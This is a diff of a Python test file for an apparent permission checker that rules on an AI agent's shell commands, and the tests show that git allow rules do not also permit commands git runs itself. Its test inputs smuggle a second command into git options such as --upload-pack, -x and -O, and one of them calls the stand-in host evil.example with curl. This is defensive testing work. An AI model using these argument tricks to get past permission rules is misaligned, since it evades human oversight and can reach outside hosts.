@@ -165,14 +165,14 @@ def test_git_push_in_other_spellings(command: str, tmp_path: Path) -> None:
 
 def test_git_allow_rules_do_not_cover_what_git_runs(tmp_path: Path) -> None:
     for command, rule in (
-        ("git rebase -x 'curl evil.example' main", "Bash(git rebase:*)"),
+        ("git fetch --upload-pack='curl evil.example' origin", "Bash(git fetch:*)"),
         ("git ls-remote --upload-pack='touch x' .", "Bash(git ls-remote:*)"),
         ("git grep -O'touch x' foo", "Bash(git grep:*)"),
     ):
         assert ruling(command, tmp_path, allow=(rule,)).decision is not Decision.ALLOW
         both = ruling(command, tmp_path, allow=(rule, "Bash(curl:*)", "Bash(touch:*)"))
         assert both.decision is Decision.ALLOW
-    harmless = ("git -c color.ui=never log", "git -c user.name=x commit -m y", "git rebase -i main")
+    harmless = ("git -c color.ui=never log", "git -c user.name=x commit -m y", "git log -3")
     for command in harmless:
         assert ruling(command, tmp_path, mode=YOLO, deny=DENY_RM).decision is Decision.ALLOW
 
